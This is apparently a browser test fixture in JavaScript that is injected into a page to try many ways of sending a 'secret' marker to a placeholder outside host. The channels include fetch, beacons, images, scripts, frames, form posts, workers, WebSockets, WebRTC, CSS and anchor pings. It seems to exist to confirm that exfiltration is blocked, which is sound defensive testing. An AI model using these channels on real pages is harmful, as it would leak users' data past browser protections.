// Appended to the page's own script by the test: tries the ways out that need a document.
{
  const other = "@OTHER@";
  const report = (name, outcome) => fetch(`/report/page/${name}?${encodeURIComponent(String(outcome).slice(0, 80))}`);
  const put = (tag, attributes) => {
    const element = Object.assign(document.createElement(tag), attributes);
    document.body.append(element);
    return element;
  };
  const ways = {
    fetch: () => fetch(`${other}/page-fetch?secret`),
    beacon: () => navigator.sendBeacon(`${other}/page-beacon`, "secret"),
    image: () => put("img", { src: `${other}/page-image?secret` }),
    script: () => put("script", { src: `${other}/page-script?secret` }),
    style: () => put("link", { rel: "stylesheet", href: `${other}/page-style?secret` }),
    prefetch: () => put("link", { rel: "prefetch", href: `${other}/page-prefetch?secret` }),
    preload: () => put("link", { rel: "preload", as: "image", href: `${other}/page-preload?secret` }),
    icon: () => put("link", { rel: "icon", href: `${other}/page-icon?secret` }),
    video: () => put("video", { src: `${other}/page-video?secret`, autoplay: true }),
    object: () => put("object", { data: `${other}/page-object?secret` }),
    frame: () => put("iframe", { src: `${other}/page-frame?secret` }),
    form: () => put("form", { action: `${other}/page-form?secret`, method: "post", target: "_blank" }).submit(),
    worker: () => new Worker(`${other}/page-worker.js?secret`),
    "worker-blob": () =>
      new Worker(URL.createObjectURL(new Blob([`fetch("${other}/page-worker-blob?secret")`]))),
    websocket: () => new WebSocket(`${other.replace("http", "ws")}/page-websocket?secret`),
    eventsource: () => new EventSource(`${other}/page-eventsource?secret`),
    import: () => import(`${other}/page-import.js?secret`),
    webrtc: async () => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:@STUN@" }] });
      peer.createDataChannel("a");
      await peer.setLocalDescription(await peer.createOffer());
    },
    css: () => {
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(`body { background: url(${other}/page-css?secret) }`);
      document.adoptedStyleSheets.push(sheet);
    },
    ping: () => put("a", { href: "#here", ping: `${other}/page-ping?secret` }).click(),
  };
  for (const [name, way] of Object.entries(ways)) {
    try {
      report(name, `done: ${await way()}`);
    } catch (error) {
      report(name, error);
    }
  }
  await new Promise((resolve) => setTimeout(resolve, 1500));
  report("all", "tried");
}
